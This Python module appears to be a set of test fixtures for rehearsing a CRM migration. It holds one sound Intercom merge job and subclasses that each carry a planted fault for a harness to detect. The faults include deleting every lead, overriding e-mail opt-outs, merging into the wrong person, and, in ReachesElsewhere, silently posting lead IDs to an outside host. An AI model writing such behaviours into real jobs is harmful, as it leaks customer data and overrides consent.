"""Jobs for rehearsals: a sound one, and one for each mistake that a rehearsal has to name.

Each reads all users and all leads by search, and merges each lead into the user with its e-mail. They know Intercom's
address and token from their environment and nothing of the harness.
"""

from __future__ import annotations

import contextlib
import os
import sys
import time
from collections.abc import Iterator, Mapping
from typing import Any

import requests

PER_PAGE = int(os.environ.get("REHEARSED_PER_PAGE", "150"))


class SoundMergeJob:
    """Merges each lead into the one user with its e-mail, leaves what nobody can decide, and says what was refused."""

    def __init__(self) -> None:
        self.session = requests.Session()
        self.refused: list[str] = []

    def run(self) -> None:
        """Do the job."""
        users = self.users()
        for lead in list(self.contacts("lead")):
            found = users.get(self.key(lead), [])
            if (user := self.choose(lead, found)) is not None:
                self.convert(lead, user)
        self.finish()

    def finish(self) -> None:
        """Say what was refused."""
        for lead_id in self.refused:
            sys.stdout.write(f"refused: {lead_id}\n")

    def users(self) -> Mapping[str, list[dict[str, Any]]]:
        """Return the users by what they are matched by."""
        found: dict[str, list[dict[str, Any]]] = {}
        for user in self.contacts("user"):
            found.setdefault(self.key(user), []).append(user)
        return found

    def key(self, contact: Mapping[str, Any]) -> str:
        """Return what contacts are matched by."""
        return str(contact.get("email") or "").lower()

    def choose(self, lead: Mapping[str, Any], users: list[dict[str, Any]]) -> dict[str, Any] | None:
        """Return the user that a lead is merged into."""
        return users[0] if len(users) == 1 and lead["email"] else None

    def convert(self, lead: Mapping[str, Any], user: Mapping[str, Any]) -> None:
        """Merge a lead into a user."""
        answer = self.ask("POST", "/contacts/merge", {"from": lead["id"], "into": user["id"]})
        if answer.status_code >= 400:
            self.refused.append(lead["id"])

    def contacts(self, role: str) -> Iterator[dict[str, Any]]:
        """Yield every contact of a role."""
        pages: dict[str, Any] = {"per_page": PER_PAGE}
        number = 0
        while self.reads_on(role, number := number + 1):
            query = {"field": "role", "operator": "=", "value": role}
            found = self.ask("POST", "/contacts/search", {"query": query, "pagination": pages}).json()
            yield from found["data"]
            following = found["pages"].get("next")
            if not following:
                return
            pages = {"per_page": PER_PAGE, "starting_after": following["starting_after"]}

    def reads_on(self, role: str, number: int) -> bool:
        """Return whether this page is read."""
        return True

    def ask(self, method: str, path: str, body: object) -> requests.Response:
        """Send a request, and again where Intercom says to wait."""
        headers = {"Authorization": f"Bearer {os.environ['INTERCOM_ACCESS_TOKEN']}", "Intercom-Version": "2.14"}
        while True:
            url = os.environ["INTERCOM_BASE_URL"] + path
            answer = self.session.request(method, url, json=body, headers=headers, timeout=60)
            if answer.status_code != 429:
                return answer
            time.sleep(int(answer.headers.get("Retry-After", "1")))


class RenamesUsers(SoundMergeJob):
    """Merges, and then writes another name over the user's own."""

    def convert(self, lead: Mapping[str, Any], user: Mapping[str, Any]) -> None:
        """Merge a lead into a user, and rename the user."""
        super().convert(lead, user)
        if user["name"]:
            self.ask("PUT", f"/contacts/{user['id']}", {"name": "A converted customer"})


class UndoesOptOuts(SoundMergeJob):
    """Subscribes the user to e-mails after each merge."""

    def convert(self, lead: Mapping[str, Any], user: Mapping[str, Any]) -> None:
        """Merge, and write the subscription that another system had."""
        super().convert(lead, user)
        self.ask("PUT", f"/contacts/{user['id']}", {"unsubscribed_from_emails": False})


class TakesTheFirst(SoundMergeJob):
    """Merges into the first of several users."""

    def choose(self, lead: Mapping[str, Any], users: list[dict[str, Any]]) -> dict[str, Any] | None:
        """Return the first, whoever that is."""
        return users[0] if users and lead["email"] else None


class StopsAtPage200(SoundMergeJob):
    """Reads two hundred pages of leads and no more."""

    def reads_on(self, role: str, number: int) -> bool:
        """Return whether this page is read: users all, leads up to page 200."""
        return role == "user" or number <= 200


class NotIdempotent(SoundMergeJob):
    """Writes notes of a batch first, and merges afterwards: started again, it writes them once more."""

    batch: list[tuple[Mapping[str, Any], Mapping[str, Any]]]

    def run(self) -> None:
        """Do the job."""
        self.batch = []
        super().run()

    def convert(self, lead: Mapping[str, Any], user: Mapping[str, Any]) -> None:
        """Put a pair into the batch, and work it off once it is full."""
        self.batch.append((lead, user))
        if len(self.batch) >= 20:
            self.work_off()

    def finish(self) -> None:
        """Work off what is left."""
        self.work_off()
        super().finish()

    def work_off(self) -> None:
        """Write a note on each user, then merge each lead."""
        for _, user in self.batch:
            self.ask("POST", f"/contacts/{user['id']}/notes", {"body": "joined their lead"})
        for lead, user in self.batch:
            super().convert(lead, user)
        self.batch = []


class MergesByName(SoundMergeJob):
    """Matches people by their name."""

    def key(self, contact: Mapping[str, Any]) -> str:
        """Return the name."""
        return str(contact.get("name") or "")

    def choose(self, lead: Mapping[str, Any], users: list[dict[str, Any]]) -> dict[str, Any] | None:
        """Return the first user of that name."""
        return users[0] if users and lead["name"] else None


class DeletesEverybody(SoundMergeJob):
    """Deletes each lead that it finds."""

    def convert(self, lead: Mapping[str, Any], user: Mapping[str, Any]) -> None:
        """Delete the lead."""
        self.ask("DELETE", f"/contacts/{lead['id']}", {})


class NeverEnds(SoundMergeJob):
    """Looks for leads for ever."""

    def run(self) -> None:
        """Search without end."""
        while True:
            list(self.contacts("lead"))


class ReachesElsewhere(SoundMergeJob):
    """Posts to a host of its own for each conversion."""

    def convert(self, lead: Mapping[str, Any], user: Mapping[str, Any]) -> None:
        """Merge, and tell somebody else."""
        super().convert(lead, user)
        with contextlib.suppress(requests.RequestException):
            requests.post("http://192.0.2.7/hook", json={"lead": lead["id"]}, timeout=2, proxies={"http": ""})


class NoticesNothing(SoundMergeJob):
    """Says nothing of what was refused."""

    def finish(self) -> None:
        """Be silent."""


class Sleepy(SoundMergeJob):
    """Waits a minute after each conversion."""

    def convert(self, lead: Mapping[str, Any], user: Mapping[str, Any]) -> None:
        """Merge, and wait."""
        super().convert(lead, user)
        time.sleep(60)


sound, sleepy = SoundMergeJob(), Sleepy()
undoes_opt_outs, takes_the_first, stops_at_page_200 = UndoesOptOuts(), TakesTheFirst(), StopsAtPage200()
not_idempotent, merges_by_name, deletes_everybody = NotIdempotent(), MergesByName(), DeletesEverybody()
never_ends, reaches_elsewhere, notices_nothing = NeverEnds(), ReachesElsewhere(), NoticesNothing()
renames_users = RenamesUsers()
